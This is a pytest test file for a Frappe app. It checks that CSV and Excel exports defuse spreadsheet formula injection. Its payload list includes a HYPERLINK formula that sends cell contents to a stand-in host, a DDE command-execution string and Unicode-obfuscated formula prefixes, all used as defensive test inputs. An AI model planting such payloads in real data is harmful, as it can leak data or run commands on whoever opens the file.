"""A text in an exported table is a text: no spreadsheet program takes it for a formula, whatever it begins with.

Tried for every DocType and every report that can be exported: a new one is in it by itself.
"""

import csv
import io
import json

import frappe
import pytest
from approvals import as_
from frappe.utils.xlsxutils import make_xlsx
from openpyxl import load_workbook

from gongtongti.core import wrapped
from gongtongti.core.spreadsheets import exports
from gongtongti.features import DECLARED

TRICKS = (
	"=HYPERLINK(\"http://x.invalid/\"&A1,\"查看\")",
	"=2+2",
	"+2+2",
	"-2+cmd|' /C calc'!A0",
	"@SUM(1)",
	"\t=2+2",
	"\r=2+2",
	"\t无害",
	"＝2+2",
	"＋2+2",
	"－2+2",
	"＠SUM(1)",
	"﹦2+2",
	"﹣2+2",
	"\ufeff=2+2",
	"\ufeff＝2+2",
	"\u200b\u200d=2+2",
	"\u2060\u00ad@SUM(1)",
	"\u3164=2+2",
	"\ufe0f=2+2",
	" =2+2",
	"\u3000=2+2",
	"\u00a0＝2+2",
	"\x01=2+2",
	"-",
)  # fmt: skip
HARMLESS = (
	"甲公司", "a=b", "1-2", "2025-2026", "测试@example.com", "", " ", "—— 备注", "’=x", "第一条\n=x", "6217171717171717179",
	"-5", "-5.00", "+3", "-1,200.50", "12%", "-0.5%", "0", "'=2+2",
)  # fmt: skip


@pytest.fixture(autouse=True)
def held():
	wrapped.hold()


@pytest.mark.parametrize("text", TRICKS)
def test_what_might_be_run_is_a_formula(text):
	assert exports.is_formula(text)
	handed_out = exports.as_text(text)
	assert handed_out == f"'{text}" and not exports.is_formula(handed_out)


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_and_figures_are_none(text):
	assert not exports.is_formula(text) and exports.as_text(text) == text


def test_figures_and_days_stay_what_they_are():
	day = frappe.utils.getdate("2026-01-31")
	for value in (-5, -5.5, 0, None, True, day):
		assert exports.as_text(value) is value


@pytest.mark.parametrize("quoting", (csv.QUOTE_NONNUMERIC, csv.QUOTE_MINIMAL, csv.QUOTE_ALL))
@pytest.mark.parametrize("delimiter", (",", ";", "\t", "|"))
def test_nothing_else_in_a_csv_is_touched(quoting, delimiter):
	table = [
		["头", "=头"],
		*([text, -5, text, -2.5] for text in (*TRICKS, *HARMLESS, 'a"b', '=a"b",c', "x\ny")),
	]
	made = io.StringIO()
	csv.writer(made, quoting=quoting, delimiter=delimiter).writerows(table)
	wanted = io.StringIO()
	csv.writer(wanted, quoting=quoting, delimiter=delimiter).writerows(
		[exports.as_text(cell) for cell in row] for row in table
	)
	assert exports.csv_as_text(made.getvalue(), delimiter) == wanted.getvalue()


def test_a_workbook_keeps_its_figures_and_days():
	day = frappe.utils.getdate("2026-01-31")
	table = [["头", "额", "日"], ["=2+2", -5.5, day], ["甲", -5, day]]
	content = exports.xlsx_as_text(make_xlsx(table, "测试").getvalue())
	page = load_workbook(io.BytesIO(content)).worksheets[0]
	assert [[cell.value for cell in row][:2] for row in page.iter_rows()] == [
		["头", "额"],
		["'=2+2", -5.5],
		["甲", -5],
	]
	assert page["A2"].data_type == "s" and page["B2"].data_type == "n" and page["C2"].is_date
	plain = make_xlsx([["甲", 1]], "测试").getvalue()
	assert exports.xlsx_as_text(plain) is plain


# -- every export ------------------------------------------------------------------------------------------------------


def override(method):
	return frappe.get_attr(frappe.get_hooks("override_whitelisted_methods").get(method, [method])[-1])


def asked(user, method, form, *args, **kwargs):
	"""What a whitelisted function hands out to this user: the cells of the table, row by row."""

	def call():
		frappe.local.form_dict = frappe._dict(form)
		frappe.local.response = frappe._dict(docs=[])
		override(method)(*args, **kwargs)
		return frappe.local.response

	before = frappe.local.form_dict, frappe.local.response
	try:
		answer = as_(user, call)
	finally:
		frappe.local.form_dict, frappe.local.response = before
	table = answer.get("filecontent") or answer.get("result")
	assert table, f"{method} handed nothing out"
	return cells(table)


def cells(table):
	if isinstance(table, bytes) and table.startswith(b"PK"):
		pages = load_workbook(io.BytesIO(table)).worksheets
		rows = [list(row) for page in pages for row in page.iter_rows()]
		assert not [cell.value for row in rows for cell in row if cell.data_type == "f"]
		return [[cell.value for cell in row] for row in rows]
	text = table.decode() if isinstance(table, bytes) else table
	return list(csv.reader(io.StringIO(text, newline="")))


def harmful(rows):
	return [cell for row in rows for cell in row if isinstance(cell, str) and exports.is_formula(cell)]


def text_field(doctype):
	fields = [df for df in frappe.get_meta(doctype).fields if df.fieldtype in ("Data", "Small Text", "Text")]
	return next((df.fieldname for df in fields if not df.options and not df.hidden), None)


EXPORTED = [
	doctype
	for doctype, rights in DECLARED.rights.items()
	if doctype in DECLARED.rows and any("export" in given for given in rights.values())
]


def tricked(doctype, trick):
	"""A document as it stands in the table, with a trick in a field that people write; its name, or None if it has none."""
	fieldname = text_field(doctype)
	if not fieldname:
		return None
	doc = frappe.get_doc({"doctype": doctype, fieldname: trick})
	doc.name = "测试公式"
	doc.db_insert()
	return doc.name


@pytest.mark.parametrize("file_type", ("CSV", "Excel"))
@pytest.mark.parametrize("doctype", EXPORTED)
def test_an_exported_list_holds_no_formula(small, doctype, file_type):
	trick = "\u200b＝2+2" if file_type == "CSV" else "=2+2"
	name = tricked(doctype, trick)
	if not name:
		pytest.skip("nothing to be written in")
	fieldname = text_field(doctype)
	columns = json.dumps([f"`tab{doctype}`.`{column}`" for column in ("name", fieldname)])
	form = {"doctype": doctype, "fields": columns, "file_format_type": file_type, "title": doctype}
	form |= {"filters": json.dumps([[doctype, "name", "=", name]]), "export_in_background": "1"}
	ways = {
		"list": lambda: asked("Administrator", "frappe.desk.reportview.export_query", form),
		"template": lambda: asked(
			"Administrator",
			"frappe.core.doctype.data_import.data_import.download_template",
			{},
			doctype,
			export_fields=json.dumps({doctype: ["name", fieldname]}),
			export_records="by_filter",
			export_filters=json.dumps({"name": name}),
			file_type=file_type,
		),
		"data export": lambda: asked(
			"Administrator",
			"frappe.core.doctype.data_export.exporter.export_data",
			{},
			doctype,
			with_data=True,
			select_columns=json.dumps({doctype: ["name", fieldname]}),
			file_type=file_type,
			filters=json.dumps([[doctype, "name", "=", name]]),
		),
	}
	if not frappe.get_meta(doctype).allow_import:
		del ways["template"]
	for label, way in ways.items():
		rows = way()
		assert harmful(rows) == [], label
		assert any(cell == f"'{trick}" for row in rows for cell in row), (label, rows)


@pytest.mark.parametrize("file_type", ("CSV", "Excel"))
@pytest.mark.parametrize("report", DECLARED.runners)
def test_an_exported_report_holds_no_formula(small, papers, bird, report, file_type, monkeypatch):
	"""Whatever a report answers: here every text in it is a trick."""
	from frappe.desk import query_report

	ran = query_report.run

	def run(*args, **kwargs):
		answer = ran(*args, **kwargs)
		columns = [column.get("fieldname") for column in answer["columns"] if isinstance(column, dict)]
		tricks = {columns[0]: "=2+2", columns[1]: "\ufeff@SUM(1)", columns[-1]: -5.5}
		answer["result"] = [{**dict.fromkeys(columns), **tricks}]
		return answer

	monkeypatch.setattr(query_report, "run", run)
	filters = {"school_year": small.next_year, "fund": bird.fund}
	form = {"report_name": report, "filters": json.dumps(filters), "file_format_type": file_type}
	form["visible_idx"] = "[0]"
	rows = asked(
		"Administrator", "frappe.desk.query_report.export_query", {**form, "export_in_background": "1"}
	)
	assert harmful(rows) == []
	assert "'=2+2" in [cell for row in rows for cell in row]


def test_a_mailed_table_holds_no_formula(small, bird, monkeypatch):
	mailing = frappe.get_doc(
		{"doctype": "Auto Email Report", "report": "Aid Fund Statement", "user": "Administrator", "email_to": "x@example.com"}
	)  # fmt: skip
	for form in ("CSV", "XLSX"):
		mailing.format = form
		mailing.filters = json.dumps({"fund": bird.fund})
		frappe.db.set_value("Aid Fund Contribution", bird.contribution, "donor_name", "=2+2")
		frappe.db.set_value("Aid Fund Entry", {"fund": bird.fund}, "reference_name", "=2+2")
		table = mailing.get_report_content()
		assert table and harmful(cells(table)) == [], form


def test_rows_of_an_import_that_failed_hold_no_formula(small):
	from gongtongti.core.spreadsheets.exports import table_as_text

	table = "学校,备注\r\n甲,=2+2\r\n"
	assert harmful(cells(table_as_text(table))) == []
	for method in ("download_errored_template", "download_import_log"):
		path = f"frappe.core.doctype.data_import.data_import.{method}"
		assert override(path).__module__ == "gongtongti.core.spreadsheets.exports"


def test_exports_of_other_apps_are_as_they_were():
	todo = frappe.get_doc({"doctype": "ToDo", "description": "=2+2"}).insert()
	form = {
		"doctype": "ToDo",
		"fields": json.dumps(["`tabToDo`.`name`", "`tabToDo`.`description`"]),
		"filters": json.dumps([["ToDo", "name", "=", todo.name]]),
		"file_format_type": "CSV",
		"title": "ToDo",
	}
	rows = asked("Administrator", "frappe.desk.reportview.export_query", form)
	assert "=2+2" in [cell for row in rows for cell in row]
